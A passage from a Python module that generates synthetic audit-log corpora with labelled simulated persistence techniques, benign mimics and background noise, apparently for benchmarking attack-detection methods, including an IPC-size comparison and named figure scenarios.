        times = sorted(gen.rng.randrange(lo, hi) for _ in range(k))
        for t in times:
            kind = gen.rng.randrange(4)
            if host.os == "windows":
                _noise_windows(gen, host, t, kind)
            else:
                _noise_linux(gen, host, t, kind)
        host.sys = saved


def _roles(host: _Host, p: ProcessRef) -> dict:
    name = canon(p.image.replace("/", "\\").rsplit("\\", 1)[-1])
    if name == "svchost.exe":
        return {"schedule": p} if "schedule" in canon(p.cmdline) else {}
    return {{"explorer.exe": "explorer", "services.exe": "services", "apache2": "apache2",
             "cron": "cron", "systemd": "systemd"}.get(name, name): p}


# ---------------------------------------------------------------------------
# public API


@dataclass
class Corpus:
    events: list
    truth: GroundTruth
    spec: ScenarioSpec

    def ndjson(self) -> str:
        return "".join(serialize_event(e) + "\n" for e in self.events)

    def write(self, out_dir: Union[str, Path]) -> Path:
        out = Path(out_dir)
        out.mkdir(parents=True, exist_ok=True)
        with open(out / "events.ndjson", "w", encoding="utf-8", newline="\n") as fh:
            for e in self.events:
                fh.write(serialize_event(e))
                fh.write("\n")
        (out / "truth.ndjson").write_text(self.truth.to_ndjson(), encoding="utf-8")
        return out


def _build(spec: ScenarioSpec) -> tuple[_Gen, list, GroundTruth]:
    gen = _Gen(spec.seed)
    hosts: list[_Host] = []
    truth = GroundTruth()
    ts = T0
    for i, t in enumerate(spec.techniques):
        os_ = "linux" if t.technique in LINUX_TECHNIQUES else "windows"
        h = _Host(f"{'srv' if os_ == 'linux' else 'ws'}{i + 1:02d}-atk", os_, f"user{i + 1}")
        hosts.append(h)
        a = _Attack(gen, h, t, i)
        a.run(ts + i * 7_919)
        truth.records.append(TruthRecord(
            "attack", t.technique, h.name, a.setup_events, a.exec_events, a.captures,
            f"{a.setup_events[-1]}->{a.exec_events[-1]}", a.initiator, a.anchor, a.n_s, a.n_e,
            exec_host=a.exec_host,
        ))
    k = 0
    for m in spec.mimics:
        for _ in range(m.count):
            k += 1
            h = _Host(f"ws{k:02d}-mim", "windows", f"staff{k}")
            hosts.append(h)
            tr, _ = _mimic(gen, h, m.kind, ts + k * 6_151)
            truth.records.append(tr)
    for j in range(spec.hosts):
        os_ = "linux" if j % 4 == 3 else "windows"
        h = _Host(f"{'srv' if os_ == 'linux' else 'ws'}{j + 1:02d}-bg", os_, f"emp{j + 1}")
        hosts.append(h)
        end = gen.boot(h, ts + j * 3_001)
        if j % 2 == 0:
            gen.reboot(h, end + spec.noise.duration_ms + NOISE_AFTER_BOOT_MS + 1_000)
    for h in hosts:
        _noise(gen, h, spec.noise)
    return gen, hosts, truth


def generate(spec: ScenarioSpec) -> tuple[str, GroundTruth]:
    """Return the corpus as NDJSON text (time ordered) plus its ground truth."""
    c = generate_corpus(spec)
    return c.ndjson(), c.truth


def generate_corpus(spec: ScenarioSpec) -> Corpus:
    if not isinstance(spec, ScenarioSpec):
        raise SpecError("expected a ScenarioSpec")
    gen, _, truth = _build(spec)
    events = sorted(gen.events, key=lambda e: (e.ts, e.event_id))
    ids = {e.event_id for e in events}
    for r in truth.records:
        missing = [x for x in r.setup_events + r.execution_events if x not in ids]
        if missing:
            raise SpecError(f"internal: truth references unknown events {missing}")
    return Corpus(events, truth, spec)


def _ipc_bytes(e: AuditEvent) -> int:
    return len(serialize_event(e)) + 1


def emit_alpc_variant(spec: ScenarioSpec, ipc_volume: Optional[float] = None) -> tuple[str, str, dict]:
    """Paired corpora: (with IPC events, without IPC events, size report).

    IPC_SEND events model broker IPC (trigger process -> system broker).
    They are added until their serialized size reaches ``ipc_volume`` times
    the base corpus size, so the reduction from dropping them is
    ``p / (1 + p)``.
    """
    p = spec.ipc_volume if ipc_volume is None else ipc_volume
    if p <= 0:
        raise SpecError("ipc_volume must be > 0")
    if not any(t.technique in ("T1543.003", "T1053.005", "T1546.003", "T1547.001", "T1543.002") for t in spec.techniques):
        raise SpecError("spec needs at least one broker-mediated technique")
    gen, hosts, _ = _build(spec)
    base = sorted(gen.events, key=lambda e: (e.ts, e.event_id))
    base_text = "".join(serialize_event(e) + "\n" for e in base)
    base_bytes = len(base_text.encode("utf-8"))
    target = p * base_bytes
    rng = random.Random(spec.seed ^ 0x1BC)
    by_host = {h.name: h for h in hosts}
    sources = [e for e in base if e.event_type is not EventType.PROCESS_TERMINATE and e.host in by_host]
    ipc: list[AuditEvent] = []
    size = 0
    n = 0
    while size < target and sources:
        e = sources[rng.randrange(len(sources))]
        h = by_host[e.host]
        peers = next((b for s, end, b in h.epochs if s <= e.ts and (end is None or e.ts <= end)), None)
        if not peers:
            peers = h.epochs[-1][2]
        peer = peers[rng.randrange(len(peers))]
        if peer.guid == e.actor.guid:
            continue
        n += 1
        ev = AuditEvent(f"ipc{n:07d}", e.ts, e.host, EventType.IPC_SEND, e.actor, IpcObject(peer))
        ipc.append(ev)
        size += _ipc_bytes(ev)
    full = sorted(base + ipc, key=lambda e: (e.ts, e.event_id))
    full_text = "".join(serialize_event(e) + "\n" for e in full)
    full_bytes = len(full_text.encode("utf-8"))
    report = {
        "ipc_volume": p,
        "bytes_with_ipc": full_bytes,
        "bytes_without_ipc": base_bytes,
        "ipc_events": len(ipc),
        "reduction": 1 - base_bytes / full_bytes,
    }
    return full_text, base_text, report


# ---------------------------------------------------------------------------
# named scenarios


def _techs(*items) -> list:
    return [t if isinstance(t, TechniqueSpec) else TechniqueSpec(t) for t in items]


def named_scenario(name: str, seed: int = 0) -> ScenarioSpec:
    n = name.lower()
    quiet = NoiseSpec(30.0, 300_000)
    if n == "fig3":
        return ScenarioSpec(seed, [TechniqueSpec("T1547.001", n_s=2, n_e=5, variant="startup-folder")], [], quiet, 1, name=n)
    if n == "fig4":
        return ScenarioSpec(seed, [TechniqueSpec("T1547.001", n_s=2, n_e=5, variant="startup-folder")],
                            [MimicSpec("runkey-updater", 1)], quiet, 1, name=n)
    if n == "fig5":
        return ScenarioSpec(seed, _techs("T1543.003"), [], quiet, 1, ipc_volume=0.6, name=n)
    if n == "fig6":
        return ScenarioSpec(seed, [TechniqueSpec("T1546.003", n_s=2, n_e=1)], [], quiet, 1, name=n)
    if n == "noise":
        return ScenarioSpec(seed, [], [], NoiseSpec(120.0, 600_000), 4, name=n)
    if n == "mixed":
        return ScenarioSpec(seed, [TechniqueSpec("T1547.001", n_s=2, n_e=5, variant="startup-folder"),
                                   TechniqueSpec("T1053.005"), TechniqueSpec("T1543.003")],
                            [MimicSpec("runkey-updater", 10), MimicSpec("updater-service", 10)], quiet, 2, name=n)
    if n == "all-techniques":
        return ScenarioSpec(seed, _techs(*TECHNIQUES), [MimicSpec("runkey-updater", 1), MimicSpec("updater-service", 1)],
                            quiet, 2, name=n)
    if n == "perf":
        # about one million events
        return ScenarioSpec(seed, _techs(*TECHNIQUES), [MimicSpec("runkey-updater", 2)],
                            NoiseSpec(250.0, 3_600_000), 55, name=n)
    if n == "t1547.001":
        return ScenarioSpec(seed, [TechniqueSpec("T1547.001", n_s=2, n_e=5)], [MimicSpec("runkey-updater", 1)], quiet, 1, name=n)
    for t in TECHNIQUES:
        if n == t.lower():
            return ScenarioSpec(seed, _techs(t), [], quiet, 1, name=n)
    raise SpecError(f"unknown scenario {name!r}; known: {', '.join(SCENARIOS)}")


SCENARIOS = ("fig3", "fig4", "fig5", "fig6", "noise", "mixed", "all-techniques", "perf") + tuple(t.lower() for t in TECHNIQUES)


def load_spec(path: Union[str, Path]) -> ScenarioSpec:
    with open(path, encoding="utf-8") as fh:
        try:
            doc = yaml.safe_load(fh)
        except yaml.YAMLError as exc:
            raise SpecError(f"unparseable spec: {exc}") from None
    return ScenarioSpec.from_dict(doc)
